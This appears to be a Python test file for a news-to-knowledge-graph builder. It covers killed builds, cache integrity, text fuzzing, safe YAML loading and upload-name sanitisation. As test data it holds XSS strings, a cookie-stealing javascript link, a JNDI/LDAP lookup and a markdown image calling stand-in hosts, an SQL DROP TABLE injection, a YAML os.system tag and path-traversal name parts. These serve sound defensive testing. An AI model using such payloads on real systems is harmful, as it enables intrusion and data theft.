"""Hostile conditions: a build killed at any moment, arbitrary text, unsafe YAML.

- A build killed with SIGKILL half-way leaves the previous graph file whole and
  unchanged, and the extraction cache consistent and usable.
- Random unicode, very long sentences, deeply nested quotes, huge token counts and
  HTML/script payloads go through ``parse_article`` and ``build_graph`` without an
  exception, and every piece of evidence points at its sentence in the text.
- YAML is only ever loaded with a safe loader.
"""

from __future__ import annotations

import ast
import json
import os
import pty
import random
import re
import select
import signal
import sqlite3
import subprocess
import sys
import time
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph.build import build_graph
from graph.cli import main
from graph.errors import CurationError, InputError, VocabError
from graph.export import (
    atomic_write,
    generate_gexf,
    generate_graphml,
    graph_to_json_data,
    read_json,
)
from graph.extract import extract, prepare_text
from graph.ingest import DOCUMENT_SUFFIXES, parse_article, parse_document, read_articles

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "seeds" / "newsweek-putin-nato-2024.txt"


# ------------------------------------------------------------------ killing builds
def write_variants(folder: Path, n: int, *, paragraphs: int | None = None) -> Path:
    """n articles made from the seed, each a little different (name, dateline, outlet)."""
    folder.mkdir(parents=True)
    text = SEED.read_text(encoding="utf-8")
    if paragraphs:
        text = "\n\n".join(text.split("\n\n")[:paragraphs])
    for i in range(n):
        body = text.replace("Newsweek", f"Newsweek edition {i}")
        (folder / f"dispatch-{i:03d}.txt").write_text(f"Dispatch {i}\n\n{body}\n", encoding="utf-8")
    return folder


def spawn_build(args: list[str], cwd: Path) -> tuple[subprocess.Popen, int]:
    """``python -m graph build ARGS`` in its own session, stderr on a terminal so it
    prints its progress; returns the process and the terminal's reading end."""
    master, slave = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "graph", "build", *args],
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=slave,
        start_new_session=True,
    )
    os.close(slave)
    return proc, master


def kill_when(
    proc: subprocess.Popen, master: int, done_at_least: int, timeout: float = 240
) -> tuple[int, int]:
    """Read the progress bar until ``done_at_least`` articles are done, then SIGKILL
    the build's whole process group; returns (done, total) at the kill."""
    seen = b""
    deadline = time.monotonic() + timeout
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 0.05)
            if ready:
                try:
                    seen += os.read(master, 65536)
                except OSError:  # the terminal closed: the build ended
                    pass
                counts = re.findall(rb"(\d+)/(\d+) articles", seen)
                if counts and int(counts[-1][0]) >= done_at_least:
                    os.killpg(proc.pid, signal.SIGKILL)
                    proc.wait(timeout=30)
                    return int(counts[-1][0]), int(counts[-1][1])
            if proc.poll() is not None:
                pytest.fail(
                    "the build ended before it could be killed:\n"
                    + seen.decode("utf-8", "replace")[-2000:]
                )
            if time.monotonic() > deadline:
                os.killpg(proc.pid, signal.SIGKILL)
                pytest.fail(
                    "no progress from the build:\n" + seen.decode("utf-8", "replace")[-2000:]
                )
    finally:
        os.close(master)


@pytest.fixture()
def workdir(tmp_path, monkeypatch):
    """A working folder without data/curation.yaml, so no curation is applied."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_build_killed_half_way_leaves_the_previous_output_whole(seed_copy, workdir, nlp):
    out = workdir / "out" / "graph.json"
    assert main(["build", str(seed_copy), "--out", str(out), "--no-cache", "--quiet"]) == 0
    before = out.read_bytes()
    corpus = write_variants(workdir / "many", 30)
    proc, master = spawn_build(
        [str(corpus), "--out", str(out), "--no-cache", "--workers", "1"], workdir
    )
    done, total = kill_when(proc, master, 3)
    assert proc.returncode == -signal.SIGKILL
    assert 3 <= done < total == 30  # killed half-way through the articles
    assert out.read_bytes() == before
    G = read_json(out)
    assert {"state:russia", "person:vladimir-putin"} <= set(G)
    # killed before writing: not even a temporary file beside the output
    assert [p.name for p in out.parent.iterdir()] == ["graph.json"]


_SLOW_WRITER = """
import os, sys, time
sys.path.insert(0, {root!r})
from graph import export

def slow_fsync(fd):  # the data is in the temporary file; a slow disk syncs it
    print("syncing", flush=True)
    time.sleep(120)

os.fsync = slow_fsync
export.atomic_write({path!r}, "{{" + " " * 5_000_000 + "}}")
"""


def test_write_killed_half_way_keeps_the_old_file_and_the_next_write_cleans_up(tmp_path):
    out = tmp_path / "graph.json"
    atomic_write(out, '{"old": true}\n')
    before = out.read_bytes()
    proc = subprocess.Popen(
        [sys.executable, "-c", _SLOW_WRITER.format(root=str(ROOT), path=str(out))],
        stdout=subprocess.PIPE,
        start_new_session=True,
    )
    try:
        assert proc.stdout.readline() == b"syncing\n"
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        proc.stdout.close()
    assert out.read_bytes() == before
    assert json.loads(out.read_text(encoding="utf-8")) == {"old": True}
    # SIGKILL leaves the killed writer's temporary file (nothing can run on SIGKILL)...
    left = sorted(p.name for p in tmp_path.iterdir() if p.name != "graph.json")
    assert left and all(re.fullmatch(rf"\.graph\.json\.{proc.pid}\..+\.tmp", n) for n in left)
    assert (tmp_path / left[0]).stat().st_size > 5_000_000  # the half-finished new graph
    # ...and the next write of that file removes it, but not a live writer's
    alive = tmp_path / f".graph.json.{os.getppid()}.live.tmp"
    alive.write_text("another process is writing")
    atomic_write(out, '{"new": true}\n')
    assert sorted(p.name for p in tmp_path.iterdir()) == [alive.name, "graph.json"]
    assert json.loads(out.read_text(encoding="utf-8")) == {"new": True}


def test_cached_build_killed_half_way_leaves_a_consistent_cache(workdir, vocab, nlp):
    from graph.build import CACHE_FLUSH, MAX_CHUNK
    from graph.cache import ExtractionCache, pipeline_fingerprint
    from graph.pipeline import build_corpus

    n = CACHE_FLUSH + 4 * MAX_CHUNK  # progress comes per chunk: kill after the first flush
    corpus = write_variants(workdir / "many", n, paragraphs=6)
    cache_path = workdir / "cache" / "extractions.sqlite"
    out = workdir / "graph.json"
    proc, master = spawn_build(
        [str(corpus), "--out", str(out), "--cache", str(cache_path), "--workers", "1"], workdir
    )
    done, total = kill_when(proc, master, CACHE_FLUSH + 1)
    assert proc.returncode == -signal.SIGKILL
    assert done < total == n
    assert not out.exists()

    db = sqlite3.connect(cache_path)
    try:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        rows = db.execute("SELECT DISTINCT fingerprint FROM extractions").fetchall()
    finally:
        db.close()
    assert len(rows) == 1
    messages: list[str] = []
    cache = ExtractionCache(cache_path, rows[0][0], report=messages.append)
    try:
        articles = read_articles([corpus]).articles
        found = cache.get_many(articles)
        assert messages == []  # not found damaged, nothing moved aside
        assert CACHE_FLUSH <= len(found) < n  # what was committed before the kill, whole
        assert len(cache) == len(found)  # every stored entry decodes
        texts = {a.id: a.text for a in articles}
        for doc, ex in found.items():  # and belongs to its article
            assert ex.document == doc and ex.relations
            for rel in ex.relations:
                ev = rel["evidence"]
                assert texts[doc][ev["start"] : ev["end"]].strip() == ev["sentence"]
    finally:
        cache.close()
    assert not list(cache_path.parent.glob("*.corrupt"))
    # the next build finishes from what the killed one cached
    result = build_corpus([corpus], cache_path=cache_path, n_process=1)
    assert len(result.articles) == n and {"state:russia", "state:poland"} <= set(result.graph)
    if pipeline_fingerprint(vocab=vocab) == rows[0][0]:  # else the extractor was edited meanwhile
        assert result.cached == len(found)


# ------------------------------------------------------------------ arbitrary text
NAMES = [
    "Russia",
    "Poland",
    "the Kremlin",
    "Donald Tusk",
    "Vladimir Putin",
    "NATO",
    "Ukraine",
    "Moscow",
    "Warsaw",
    "the FSB",
    "China",
    "the United States",
    "Hamas",
    "Israel",
]
CUES = [
    "accused",
    "denied",
    "threatened",
    "supported",
    "is allied with",
    "is a member of",
    "said",
    "warned",
    "blamed",
    "condemned",
    "rejected claims by",
    "backed",
    "sanctioned",
]
PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "[click here](javascript:alert(document.cookie))",
    "![x](http://attacker.example/p.png)",
    '<a href="https://evil.example">the Kremlin</a>',
    "<svg/onload=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "'; DROP TABLE extractions; --",
    "\u202eevil\u202c",
    "&lt;b&gt;&amp;",
    "<!--",
    "]]>",
    "\x00\x1b[2J\x07",
    "\ud800",
    "\ufffe\uffff",
    "\u200b\u200d\ufeff",
    "e\u0301\u0301\u0301",
]
QUOTES = ["“", "”", "‘", "’", '"', "'", "«", "»", "„", "‹", "›", "「", "」", "``", "''"]
FILLER = [
    "the",
    "a",
    "of",
    "and",
    "in",
    "on",
    "that",
    "which",
    "officials",
    "sabotage",
    "attack",
    "plot",
    "with",
    "by",
    "report",
    "—",
    ",",
    ";",
    "(",
    ")",
    "é",
    "😀",
    "北京",
]

sentence = st.builds(
    lambda a, cue, b, tail: f"{a} {cue} {b}{tail}.",
    st.sampled_from(NAMES),
    st.sampled_from(CUES),
    st.sampled_from(NAMES),
    st.text(max_size=12),
)
fragment = st.one_of(
    sentence,
    sentence,
    st.sampled_from(PAYLOADS),
    st.text(max_size=40),
    st.sampled_from(QUOTES),
    st.sampled_from(["\n", "\n\n", "\r\n", " ", "\t", "\x0c"]),
)
mixed_text = st.one_of(
    st.lists(fragment, min_size=1, max_size=40).map(" ".join),
    st.lists(fragment, min_size=1, max_size=40).map("".join),
    st.text(max_size=400),
)


def nest(depth: int, inner: str, closed: bool, speaker: str) -> str:
    """inner wrapped in depth alternating quotation marks (closed or left open)."""
    pairs = [("“", "”"), ("‘", "’"), ("«", "»"), ('"', '"')]
    opening = "".join(pairs[i % 4][0] for i in range(depth))
    closing = "".join(pairs[i % 4][1] for i in reversed(range(depth))) if closed else ""
    return f"{speaker} said {opening}{inner}{closing} on Tuesday."


def long_sentence(seed: int, tokens: int) -> str:
    """One sentence of thousands of tokens: names, cues and filler, no full stop."""
    rnd = random.Random(seed)
    pool = NAMES * 2 + CUES + FILLER * 3 + QUOTES[:4]
    return "Headline\n\n" + " ".join(rnd.choice(pool) for _ in range(tokens)) + "."


def many_tokens(token: str, n: int, seed: int) -> str:
    rnd = random.Random(seed)
    words = [token] * n
    for _ in range(10):  # a few real sentences among them
        words.insert(rnd.randrange(len(words)), f"{rnd.choice(NAMES)} accused {rnd.choice(NAMES)}.")
    return " ".join(words)


large_text = st.one_of(
    st.builds(nest, st.integers(1, 400), sentence, st.booleans(), st.sampled_from(NAMES)),
    st.builds(long_sentence, st.integers(0, 2**32 - 1), st.integers(1000, 4000)),
    st.builds(
        many_tokens,
        st.sampled_from(["Russia", "NATO's", "<b>", "-", "😀", "a", "\n"]),
        st.integers(5000, 20000),
        st.integers(0, 2**32 - 1),
    ),
)


_BLANK = "\u034f\u115f\u1160\u3164\uffa0\ufffd\ufffe\uffff"


def check_build(text: str, vocab, nlp):
    """parse + build one text; the evidence must point at its sentence in the text."""
    try:
        article = parse_article(text, "hostile.txt")
    except InputError as exc:  # only a text without a visible character is refused
        assert str(exc).startswith("hostile.txt: ") and (
            "no text" in str(exc) or "empty" in str(exc)
        )
        assert all(
            ch.isspace() or unicodedata.category(ch)[0] == "C" or ch in _BLANK for ch in text
        )
        return None
    G = build_graph([article], vocab=vocab, nlp=nlp, n_process=1)
    body = article.text
    for node, data in G.nodes(data=True):
        assert data["kind"] in vocab.kinds and data["label"] and data["id"] == node
    for _, _, key, data in G.edges(keys=True, data=True):
        assert data["relation"] == key and key in vocab.relations
        assert data["evidence"], "an edge without evidence"
        for ev in data["evidence"]:
            assert ev["document"] == article.id
            start, end = ev["start"], ev["end"]
            assert isinstance(start, int) and isinstance(end, int)
            assert 0 <= start < end <= len(body), (start, end, len(body))
            assert body[start:end].strip() == ev["sentence"], (body[start:end], ev["sentence"])
            assert ev["sentence"]
    return G


HYPOTHESIS = settings(
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@settings(HYPOTHESIS, max_examples=400)
@given(text=mixed_text)
def test_arbitrary_text_never_crashes_and_evidence_points_at_its_sentence(text, vocab, nlp):
    G = check_build(text, vocab, nlp)
    if G is None:
        return
    # every output format can hold what the text put in the graph
    json.loads(json.dumps(graph_to_json_data(G), ensure_ascii=False))
    ET.fromstring(generate_graphml(G))
    ET.fromstring(generate_gexf(G))


@settings(HYPOTHESIS, max_examples=15)
@given(text=large_text)
def test_long_sentences_nested_quotes_and_huge_token_counts(text, vocab, nlp):
    check_build(text, vocab, nlp)


# ------------------------------------------------------------------ found by the tests above
# Inputs that once crashed or stalled the pipeline; they must stay fixed.
def test_a_sentence_of_thousands_of_tokens_builds_in_bounded_time(vocab, nlp):
    """A text with no full stop (a scraped one-line page, a bad PDF conversion) is one
    sentence: extraction work per cue must not grow with the sentence's length."""
    text = "Poland accused Russia and " * 600  # 2,400 tokens, 600 cues, one sentence
    G = check_build(text, vocab, nlp)
    assert ("state:poland", "state:russia", "accuses") in G.edges(keys=True)
    # extraction against parsing, measured together so that a loaded machine slows both:
    # parsing takes about 0.5 s and extraction a fraction of it; extraction quadratic in
    # the sentence took 20 s, 40 times the parse (bench/bench_limits.py prints the times)
    article = parse_article(text, "hostile.txt")
    start = time.perf_counter()
    doc = nlp(prepare_text(article.text, vocab))
    parse = time.perf_counter() - start
    start = time.perf_counter()
    extract(doc, article.id, vocab, text=article.text)
    extraction = time.perf_counter() - start
    assert extraction < 5 * parse + 1, f"extraction {extraction:.1f} s, parse {parse:.1f} s"


def test_an_article_longer_than_the_parsers_limit_builds(vocab, nlp, monkeypatch):
    """``read_articles`` accepts up to 20 MB but spaCy refuses texts over
    ``nlp.max_length`` (1,000,000 characters) with ValueError [E088]."""
    text = "Poland accused Russia of sabotage.\n\n" * 300 + "Ukraine accused China of espionage.\n"
    monkeypatch.setattr(nlp, "max_length", 5_000)  # 10,800 characters: three parser-sized pieces
    G = check_build(text, vocab, nlp)  # offsets past the first piece still point at their sentence
    assert ("state:poland", "state:russia", "accuses") in G.edges(keys=True)
    (last,) = G.edges["state:ukraine", "state:china", "accuses"]["evidence"]
    assert last["start"] == len(text) - len("Ukraine accused China of espionage.\n")


# ------------------------------------------------------------------ YAML
_UNSAFE = {
    "unsafe_load",
    "unsafe_load_all",
    "full_load",
    "full_load_all",
    "Loader",
    "UnsafeLoader",
    "FullLoader",
    "CLoader",
    "CUnsafeLoader",
    "CFullLoader",
}


def _yaml_calls(path: Path) -> list[str]:
    """Every unsafe use of PyYAML in a Python file, as 'file:line: what'."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    bad = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "yaml":
            names = {a.name for a in node.names}
            if names & (_UNSAFE | {"load", "load_all"}):
                bad.append(f"{path.name}:{node.lineno}: from yaml import {sorted(names)}")
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id == "yaml"
            and node.attr in _UNSAFE
        ):
            bad.append(f"{path.name}:{node.lineno}: yaml.{node.attr}")
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "yaml"
            and node.func.attr in ("load", "load_all")
        ):
            loader = [k.value for k in node.keywords if k.arg == "Loader"]
            if not loader and len(node.args) > 1:
                loader = [node.args[1]]
            if not loader or "SafeLoader" not in ast.unparse(loader[0]):
                bad.append(f"{path.name}:{node.lineno}: yaml.{node.func.attr} without a SafeLoader")
    return bad


def test_yaml_is_only_loaded_safely():
    files = sorted((ROOT / "graph").glob("*.py")) + [ROOT / "app.py"]
    assert len(files) > 5
    bad = [hit for f in files if f.exists() for hit in _yaml_calls(f)]
    assert bad == []


def test_yaml_scan_catches_unsafe_loaders(tmp_path):
    f = tmp_path / "bad.py"
    f.write_text(
        "import yaml\nfrom yaml import load\n"
        "a = yaml.load(s)\nb = yaml.load(s, Loader=yaml.Loader)\nc = yaml.unsafe_load(s)\n"
        "d = yaml.load(s, Loader=yaml.SafeLoader)\ne = yaml.safe_load(s)\n"
    )
    assert sorted(h.split(":")[1] for h in _yaml_calls(f)) == ["2", "3", "4", "4", "5"]


_PYTHON_TAG = '!!python/object/apply:os.system ["echo pwned > {marker}"]'


def test_curation_file_with_a_python_tag_is_refused_not_run(tmp_path):
    from graph.curate import load_curation

    marker = tmp_path / "pwned"
    path = tmp_path / "curation.yaml"
    path.write_text(f"- {_PYTHON_TAG.format(marker=marker)}\n", encoding="utf-8")
    with pytest.raises(CurationError):
        load_curation(path)
    assert not marker.exists()


def test_vocabulary_file_with_a_python_tag_is_refused_not_run(tmp_path):
    import shutil

    from graph.vocab import load_vocab

    marker = tmp_path / "pwned"
    vocab_dir = tmp_path / "vocab"
    shutil.copytree(ROOT / "data" / "vocab", vocab_dir)
    kinds = vocab_dir / "kinds.yaml"
    kinds.write_text(
        kinds.read_text(encoding="utf-8") + f"\nexploit: {_PYTHON_TAG.format(marker=marker)}\n",
        encoding="utf-8",
    )
    with pytest.raises(VocabError, match="kinds.yaml"):
        load_vocab(vocab_dir)
    assert not marker.exists()


# ------------------------------------------------------------------ uploads
_NAME_PARTS = [
    "..",
    "/",
    "\\",
    ".",
    "~",
    "\x00",
    "%2e%2e",
    "C:",
    "etc",
    "passwd",
    ".txt",
    ".md",
    ".TXT",
    ".html",
    ".pdf",
    ".zip",
    ".txt.exe",
    " ",
    "\u202e",
    "<script>",
    "’",
    "名前",
    "\n",
]


@settings(HYPOTHESIS, max_examples=150)
@given(
    name=st.one_of(
        st.text(max_size=60), st.lists(st.sampled_from(_NAME_PARTS), max_size=12).map("".join)
    )
)
def test_uploaded_names_never_leave_the_corpus_folder(name):
    import tempfile

    from graph.view import save_upload

    data = b"Poland accused Russia of sabotage.\n"
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "corpus"
        folder.mkdir()
        try:
            path = save_upload(folder, name, data)
        except InputError as exc:  # not a document type, or no article in it: one line says so
            assert str(exc).isprintable() and "\n" not in str(exc)
            return
        assert path.resolve().parent == folder.resolve()
        assert path.suffix in DOCUMENT_SUFFIXES and not path.name.startswith(".")
        assert sorted(p.name for p in Path(tmp).rglob("*") if p.is_file()) == [path.name]
        # what the analyst uploaded is what the corpus reads
        assert [a.text for a in read_articles([folder]).articles] == [
            a.text for a in parse_document(data, path.name).articles
        ]
